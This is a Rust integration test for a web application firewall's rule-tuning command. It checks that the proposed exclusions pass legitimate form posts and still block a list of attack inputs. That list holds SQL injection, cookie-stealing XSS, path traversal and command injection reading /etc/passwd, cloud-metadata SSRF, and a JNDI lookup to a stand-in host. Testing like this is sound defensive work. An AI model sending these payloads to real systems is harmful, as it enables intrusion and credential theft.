//! `rampart waf tune` over real traffic: what it proposes lets honest requests pass, and no attack.

use bytes::Bytes;
use serde_json::Value;
use testkit::eventually;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpSocket;

use crate::backend::Backend;
use crate::world::{SOON, World};

const ROUTE: &str = r#"
[[route]]
name = "posts"
host = "app.localhost"
path = "/**"
to = "backend"
auth = "optional"
mode = { inspect = "observe" }
"#;

/// What people write who ask about their program's sessions.
const HONEST: &str = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA";

/// What no text of people holds, some of it where people write.
const ATTACKS: &[&str] = &[
    "id=1' UNION SELECT password FROM users-- -",
    "q=<script>alert(document.cookie)</script>",
    "file=../../../../etc/passwd",
    "cmd=;cat /etc/passwd",
    "url=http://169.254.169.254/latest/meta-data/",
    "comment=1' UNION SELECT password FROM users-- -",
    "name=${jndi:ldap://x.example/a}",
];

fn estate(mode: &str, exclusions: &str) -> String {
    format!("{ROUTE}\n[waf]\nrules = \"builtin\"\nmode = \"{mode}\"\n\n{exclusions}")
}

/// The status of a form sent from an address of this machine, by the holder of a key or by nobody.
async fn post(world: &World, from: &str, key: Option<&str>, form: &str) -> u16 {
    let (name, value) = form.split_once('=').unwrap();
    let authorization = key.map_or(String::new(), |key| {
        format!("Authorization: Bearer {key}\r\n")
    });
    let body = format!("{name}={}", encoded(value));
    let request = format!(
        "POST /posts HTTP/1.1\r\nHost: app.localhost\r\nUser-Agent: test\r\nConnection: close\r\n{authorization}\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
    let mut stream = socket.connect(world.plain).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    let answer = Bytes::from(answer);
    let status = answer
        .get(9..12)
        .map(|digits| String::from_utf8_lossy(digits).into_owned());
    status.and_then(|status| status.parse().ok()).unwrap_or(0)
}

fn encoded(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => out.push(char::from(byte)),
            other => out.push_str(&format!("%{other:02X}")),
        }
    }
    out
}

fn tuned(world: &World) -> Value {
    let (code, out, err) = world.cli(&["waf", "tune", "--route", "posts", "--format", "json"]);
    assert_eq!(code, 0, "{out}{err}");
    serde_json::from_str(&out).unwrap()
}

/// Waits until so many requests are in the trail.
async fn recorded(world: &World, count: u64) -> Value {
    let is_there = || async { tuned(world)["requests"].as_u64() >= Some(count) };
    assert!(eventually(SOON, is_there).await, "{:#}", tuned(world));
    tuned(world)
}

/// Lines of all proposals.
fn lines(tuned: &Value) -> String {
    let all = tuned["proposals"].as_array().unwrap().iter();
    all.map(|one| one["lines"].as_str().unwrap()).collect()
}

fn applied(world: &World) {
    let (code, out, err) = world.cli(&["plan"]);
    assert!(code <= 1 && out.contains("exclusion of"), "{out}{err}");
    let (code, out, err) = world.cli(&["apply", "--yes"]);
    assert_eq!(code, 0, "{out}{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_proposed_lets_honest_requests_pass_and_no_attack() {
    let (backend, address) = Backend::start().await;
    let world = World::start(address, &estate("observe", "")).await;
    let mut keys = Vec::new();
    for login in ["ada", "bela", "cleo"] {
        let mut visitor = world.visitor(login, "writer").await;
        keys.push(visitor.key("things:read").await);
    }
    let honest = |place: &str| format!("{place}={HONEST}");
    for key in &keys {
        let status = post(&world, "127.0.0.5", Some(key), &honest("comment")).await;
        assert_eq!(status, 200);
    }
    for attack in ATTACKS {
        assert_eq!(
            post(&world, "127.0.0.7", None, attack).await,
            200,
            "{attack}"
        );
        // Within a second, those of one sender are counted together.
        tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    }
    let told = recorded(&world, 10).await;
    let proposals = told["proposals"].as_array().unwrap();
    assert!(!proposals.is_empty(), "{told:#}");
    for one in proposals {
        // The rule looks at the body as it came, too.
        let target = one["target"].as_str().unwrap();
        assert!(
            ["ARGS:comment", "REQUEST_BODY"].contains(&target),
            "{told:#}"
        );
        assert_eq!(
            (&one["requests"], &one["principals"]),
            (&3.into(), &3.into())
        );
        assert_eq!(
            one["answered"][0]["class"], 2,
            "what the service made of it"
        );
        assert_eq!(one["unasked"], 0);
    }
    assert_eq!(told["would_pass"], 3);
    let left = told["left_alone"].to_string();
    assert!(
        left.contains("127.0.0.7") && left.contains("looks like an attacker"),
        "{left}"
    );
    let out = shown(&world, &told);
    // Nothing was applied. Pasted, planned and applied, with rules that block:
    world.write_estate(address, &estate("block", &out));
    applied(&world);
    for key in &keys {
        let status = post(&world, "127.0.0.5", Some(key), &honest("comment")).await;
        assert_eq!(status, 200, "{out}");
    }
    let seen = backend.seen().len();
    for attack in ATTACKS {
        assert_eq!(
            post(&world, "127.0.0.7", None, attack).await,
            403,
            "{attack}"
        );
    }
    assert_eq!(backend.seen().len(), seen, "no attack reaches the service");
    assert_eq!(
        post(&world, "127.0.0.5", Some(&keys[0]), &honest("title")).await,
        403
    );
    refused_ones(&world, address, &keys, &out).await;
}

/// What people see is the same as the document, and all but the lines are comments.
fn shown(world: &World, told: &Value) -> String {
    let (_, out, _) = world.cli(&["waf", "tune"]);
    let plain: String = out
        .lines()
        .filter(|line| !line.starts_with('#') && !line.is_empty())
        .map(|line| format!("{line}\n"))
        .collect();
    assert_eq!(plain, lines(told), "{out}");
    out
}

/// The same of requests that were refused, on top of what is excepted.
async fn refused_ones(world: &World, address: std::net::SocketAddr, keys: &[String], before: &str) {
    for key in keys.iter().skip(1) {
        let form = format!("title={HONEST}");
        assert_eq!(post(world, "127.0.0.5", Some(key), &form).await, 403);
    }
    let is_proposed = || async { lines(&tuned(world)).contains("parameter = \"title\"") };
    assert!(eventually(SOON, is_proposed).await, "{:#}", tuned(world));
    let told = tuned(world);
    assert!(told["excepted"].as_u64() >= Some(3), "{told:#}");
    assert!(!lines(&told).contains("comment"), "it is excepted already");
    let both = format!("{before}\n{}", lines(&told));
    world.write_estate(address, &estate("block", &both));
    applied(world);
    for key in keys {
        let form = format!("title={HONEST}");
        assert_eq!(post(world, "127.0.0.5", Some(key), &form).await, 200);
    }
    assert_eq!(tuned(world)["proposals"], serde_json::json!([]));
    for (more, said) in [
        (["--route", "nowhere"], "there is no route `nowhere`"),
        (["--expires", "2020-01-01"], "is over already"),
        (["--until", "25h"], "`since` is longer ago than `until`"),
    ] {
        let arguments = [&["waf", "tune"][..], &more].concat();
        let (code, out, err) = world.cli(&arguments);
        assert!(code != 0 && err.contains(said), "{code} {out}{err}");
    }
}
